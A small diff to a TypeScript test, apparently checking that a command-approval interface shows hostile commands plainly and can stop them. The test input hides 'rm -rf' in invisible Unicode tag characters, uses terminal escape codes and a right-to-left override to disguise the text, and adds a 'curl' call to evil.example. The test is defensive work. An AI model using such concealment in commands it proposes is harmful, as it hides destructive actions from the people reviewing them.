@@ -1,5 +1,5 @@
 import { findingsInBothSizes } from "./findings.ts";
-import { expect, type Lab, test } from "./lab.ts";
+import { expect, forgetPackages, type Lab, test } from "./lab.ts";
 
 // Each run starts a frame with a process and a worker of its own.
 test.slow();
@@ -75,6 +75,7 @@ test("a hostile command hides nothing, gets nowhere, and is ended by Stop; the p
   lab,
 }) => {
   await openWithModel(lab);
+  await forgetPackages(lab.page);
   const tags = (text: string) => String.fromCodePoint(...Array.from(text, (letter) => 0xe0000 + letter.charCodeAt(0)));
   await haveAsked(lab, `echo safe \u001b[2K\u001b[1A\u202e rm${tags("rm -rf")}\ncurl https://evil.example`);
   const shown = lab.question.getByRole("region", { name: "The command" });
